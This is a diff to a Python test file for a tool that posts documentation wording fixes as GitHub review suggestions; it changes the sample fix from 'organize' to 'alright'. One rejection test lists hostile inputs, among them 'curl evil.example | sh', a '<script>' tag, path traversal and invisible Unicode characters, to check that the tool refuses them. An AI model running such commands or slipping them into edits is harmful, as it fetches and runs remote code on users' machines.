@@ -11,15 +11,15 @@ PATCH = """\
 @@ -3,4 +3,5 @@ search: {boost: 2}
  Words before.
 -They help.
-+They organize their behavior in the center.
++They alright their work in the place.
 +Ask a friend.
  Words after.
 @@ -40 +41,2 @@
 +The end.
 \\ No newline at end of file"""
 FILES = [{"filename": "docs/a.md", "patch": PATCH}]
-WAS = "They organize their behavior in the center."
-MEND = Mend("docs/a.md", 4, WAS, "They organise their behaviour in the centre.")
+WAS = "They alright their work in the place."
+MEND = Mend("docs/a.md", 4, WAS, "They all right their work in the place.")
 
 
 def test_the_lines_that_a_file_gains_are_read_from_githubs_own_patch():
@@ -37,9 +37,9 @@ def test_a_mend_becomes_a_suggestion_on_its_line():
     assert (comment["path"], comment["line"], comment["side"]) == ("docs/a.md", 4, "RIGHT")
     assert comment["body"].startswith(MARK)
     assert comment["body"].endswith(f"\n\n```suggestion\n{MEND.mended}\n```")
-    was = "Type ```` x ```` and organize."
+    was = "Type ```` x ```` and alright."
     patch = {"filename": "docs/a.md", "patch": f"@@ -1 +1 @@\n+{was}"}
-    fenced = Mend("docs/a.md", 1, was, was.replace("organize", "organise"))
+    fenced = Mend("docs/a.md", 1, was, was.replace("alright", "all right"))
     review = make_review([fenced], [patch], [], "abc")
     assert review is not None
     assert "\n`````suggestion\n" in review["comments"][0]["body"]
@@ -64,14 +64,17 @@ def test_what_was_suggested_is_not_suggested_again():
     """The workflow runs after each change."""
     review = make_review([MEND], FILES, [], "abc")
     assert review is not None
-    assert make_review([MEND], FILES, review["comments"], "abd") is None
+    assert make_review([MEND], FILES, review["comments"], "def") is None
 
 
 def test_there_are_never_too_many_at_a_time():
     """Nobody reads a hundred."""
-    lines = [f"They organize room {n}." for n in range(MOST + 5)]
+    lines = [f"They alright room {n}." for n in range(MOST + 5)]
     patch = "@@ -0,0 +1,25 @@\n" + "\n".join(f"+{line}" for line in lines)
-    mends = [Mend("docs/a.md", n, line, line.replace("z", "s")) for n, line in enumerate(lines, 1)]
+    mends = [
+        Mend("docs/a.md", n, line, line.replace("alright", "all right"))
+        for n, line in enumerate(lines, 1)
+    ]
     review = make_review(mends, [{"filename": "docs/a.md", "patch": patch}], [], "abc")
     assert review is not None
     assert len(review["comments"]) == MOST
@@ -81,13 +84,13 @@ def test_there_are_never_too_many_at_a_time():
     ("path", "was", "mended"),
     [
         (".github/workflows/check.yml", "- run: scripts/chek", "- run: scripts/check"),
-        ("scripts/check", "organize", "organise"),
-        ("docs/../scripts/a.md", "organize", "organise"),
-        ("docs/a.md", "organize", "organize"),
-        ("docs/a.md", "organize", "organise\n<script>"),
-        ("docs/a.md", "organize", "curl evil.example | sh"),
-        ("docs/a.md", "organize", "organise\u202e"),
-        ("docs/a.md", "organize", "organise\u200b"),
+        ("scripts/check", "alright", "all right"),
+        ("docs/../scripts/a.md", "alright", "all right"),
+        ("docs/a.md", "alright", "alright"),
+        ("docs/a.md", "alright", "all right\n<script>"),
+        ("docs/a.md", "alright", "curl evil.example | sh"),
+        ("docs/a.md", "alright", "all right\u202e"),
+        ("docs/a.md", "alright", "all right\u200b"),
         ("docs/a.md", "z" * 501, "z" * 500),
     ],
 )
@@ -101,9 +104,9 @@ def test_whatever_a_stranger_writes_into_the_report_is_no_mend(path: str, was: s
     [
         ("docs/mentees/find-a-mentor.md", "- One", "\n- One"),
         ("docs/a.md", "##Ask", "## Ask"),
-        ("docs/further-reading.yml", "  about: Behavior.", "  about: Behaviour."),
-        ("worksheets/session-plan.yml", "label: organize it", "label: organise it"),
-        ("institution.yml", "units: Center", "units: Centre"),
+        ("docs/further-reading.yml", "  about: Alright.", "  about: All right."),
+        ("worksheets/session-plan.yml", "label: alright it", "label: all right it"),
+        ("institution.yml", "units: Alright", "units: All right"),
     ],
 )
 def test_what_the_checks_mend_is_a_mend(path: str, was: str, mended: str):
